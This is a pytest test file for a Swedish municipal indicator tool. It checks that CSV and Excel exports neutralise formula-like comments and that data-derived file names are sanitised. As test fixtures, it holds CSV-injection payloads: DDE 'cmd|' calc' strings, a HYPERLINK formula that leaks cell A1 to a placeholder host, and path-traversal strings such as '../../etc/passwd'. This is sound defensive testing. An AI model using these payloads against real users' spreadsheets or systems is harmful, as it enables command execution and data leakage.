"""Text from users never runs as a formula in an export, and file names from data are safe."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import Result

from indicators.safe_text import FORMULA_STARTS
from indicators.safe_text import is_formula_like
from indicators.safe_text import neutralise
from indicators.safe_text import safe_filename

HOSTILE = {
    2020: '=HYPERLINK("http://example.invalid/?"&A1;"klicka")',
    2021: "+1+cmd|' /C calc'!A0",
    2022: "-2+3",
    2023: "@SUM(A1:A2)",
}


@pytest.fixture
def hostile_store(miljomal: Callable[..., Result], tmp_path: Path) -> Callable[..., Result]:
    """A store holding one value per year, each with a comment written like a formula."""
    path = tmp_path / "kommentarer.csv"
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\n")
    writer.writerow(["Kommunkod", "Indikator", "År", "Värde", "Kommentar"])
    for year, comment in HOSTILE.items():
        writer.writerow(["2281", "GN.6", year, f"{year - 2000},5", comment])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    result = miljomal("import", str(path))
    assert result.exit_code == 0, result.output
    return miljomal


def test_csv_export_neutralises_comments_and_keeps_numbers(
    hostile_store: Callable[..., Result], tmp_path: Path
) -> None:
    out = tmp_path / "export.csv"
    assert hostile_store("export", "-o", str(out)).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig")), delimiter=";"))
    header, body = rows[0], rows[1:]
    value, comment = header.index("Värde"), header.index("Kommentar")
    assert [row[comment] for row in body] == ["'" + HOSTILE[year] for year in sorted(HOSTILE)]
    assert [row[value] for row in body] == ["20,5", "21,5", "22,5", "23,5"]


def test_xlsx_export_neutralises_comments_and_keeps_numbers(
    hostile_store: Callable[..., Result], tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "export.xlsx"
    assert hostile_store("export", "-o", str(out)).exit_code == 0
    sheet = load_workbook(out).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type in ("s", "n") for cell in cells)
    comments = [row[6].value for row in sheet.iter_rows(min_row=2)]
    assert comments == ["'" + HOSTILE[year] for year in sorted(HOSTILE)]
    values = [row[4] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in values] == [(v, "n") for v in (20.5, 21.5, 22.5, 23.5)]


def test_the_annotated_copy_keeps_formula_text_as_text(
    miljomal: Callable[..., Result], tmp_path: Path
) -> None:
    from openpyxl import Workbook
    from openpyxl import load_workbook

    source = tmp_path / "inskick.xlsx"
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Värden"
    sheet.append(["Kommunkod", "Indikator", "År", "Värde", "Kommentar"])
    sheet.append(["2281", "GN.6", 2023, "inte ett tal", None])
    sheet.cell(2, 5).value = HOSTILE[2020]
    sheet.cell(2, 5).data_type = "s"
    workbook.save(source)
    review = tmp_path / "granskning.xlsx"
    result = miljomal("import", str(source), "--report", str(review))
    assert result.exit_code == 1
    copy = load_workbook(review)
    assert copy["Värden"]["E2"].data_type == "s"
    assert copy["Värden"]["E2"].value == HOSTILE[2020]
    formulas = [c for ws in copy.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in formulas if c.data_type == "f"]


def test_report_workbooks_write_text_through_the_shared_neutraliser(tmp_path: Path) -> None:
    from openpyxl import Workbook
    from openpyxl import load_workbook

    from plan.documents.xlsx import safe_text
    from reports.documents.xlsx import put

    workbook = Workbook()
    sheet = workbook.active
    for column, text in enumerate(HOSTILE.values(), start=1):
        put(sheet, 1, column, text)
    put(sheet, 2, 1, 12.5)
    path = tmp_path / "rapport.xlsx"
    workbook.save(path)
    saved = load_workbook(path).active
    assert [c.value for c in saved[1]] == [neutralise(t) for t in HOSTILE.values()]
    assert {c.data_type for c in saved[1]} == {"s"}
    assert (saved["A2"].value, saved["A2"].data_type) == (12.5, "n")
    for start in FORMULA_STARTS:
        assert safe_text(start + "x") == "'" + start + "x"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+46 60 19 10 00", "'+46 60 19 10 00"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ökning med 3 %", "Ökning med 3 %"),
        ("", ""),
        (None, None),
    ],
)
def test_neutralise(text: str | None, safe: str | None) -> None:
    assert neutralise(text) == safe
    assert is_formula_like(text) == (safe != text)


def test_every_export_uses_the_one_neutraliser() -> None:
    import indicators.export
    import reports.documents.xlsx

    assert indicators.export.neutralise is neutralise
    assert reports.documents.xlsx.neutralise is neutralise


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Örnsköldsvik", "ornskoldsvik"),
        ("Upplands Väsby", "upplands-vasby"),
        ("Malung-Sälen", "malung-salen"),
        ("Dals-Ed/Bengtsfors", "dals-ed-bengtsfors"),
        ("..\\..\\windows\\system32", "windows-system32"),
        ("../../etc/passwd", "etc-passwd"),
        ("CON", "_con"),
        ("nul.txt", "_nul.txt"),
        ('a:b*c?d"e<f>g|h', "a-b-c-d-e-f-g-h"),
        ("   ", "namnlos"),
        (".hidden", "hidden"),
        ("Åre " * 40, ("are-" * 20)[:79]),
    ],
)
def test_file_names_from_data_are_safe_everywhere(text: str, expected: str) -> None:
    name = safe_filename(text)
    assert name == expected
    assert name.isascii() and "/" not in name and "\\" not in name
    assert not name.startswith(".") and not name.endswith((".", " "))
    assert len(name) <= 80


def test_reports_share_the_file_name_helper() -> None:
    import reports.documents.common

    assert reports.documents.common.safe_filename is safe_filename


def test_a_safe_file_name_can_be_written(tmp_path: Path) -> None:
    for text in ("Håbo/Knivsta", "Gällivare: <2024>", "Ale?"):
        path = tmp_path / (safe_filename(text) + ".xlsx")
        path.write_bytes(b"x")
        assert path.parent == tmp_path


def test_one_csv_writer_neutralises_every_field_start_whatever_the_separator() -> None:
    from indicators.csv_out import NumberText
    from indicators.csv_out import csv_line

    line = csv_line(["rapport,=cmd|' -C calc'!A0,.csv", NumberText("-2,5"), -3, "a;@b\tc"], ";")
    assert line == "\"rapport,'=cmd|' -C calc'!A0,.csv\";-2,5;-3;\"a;'@b\tc\"\r\n"
    # Read with any separator, no text field starts a formula; numbers stay numbers.
    for separator in (";", ",", "\t"):
        fields = [f for row in csv.reader(io.StringIO(line), delimiter=separator) for f in row]
        assert not [
            f for f in fields if is_formula_like(f) and f.lstrip("-")[:1] not in "0123456789"
        ]
    assert csv_line(["plain", 10.5, None, "-x"], ",") == "plain,10.5,,'-x\r\n"


def test_the_csv_export_keeps_negative_values_numbers_and_neutralises_after_a_comma(
    miljomal: Callable[..., Result], tmp_path: Path
) -> None:
    path = tmp_path / "negativ.csv"
    path.write_text(
        'Kommunkod;Indikator;År;Värde;Kommentar\n2281;GN.6;2022;5,5;"ökning,=1+1"\n',
        encoding="utf-8",
    )
    assert miljomal("import", str(path)).exit_code == 0
    out = tmp_path / "export.csv"
    assert miljomal("export", "-o", str(out), "--lang", "en").exit_code == 0
    text = out.read_text(encoding="utf-8-sig")
    assert text.splitlines()[1] == (
        'Sundsvalls kommun,2281,GN.6,2022,5.5,reported,"ökning,\'=1+1",sekom-2012'
    )
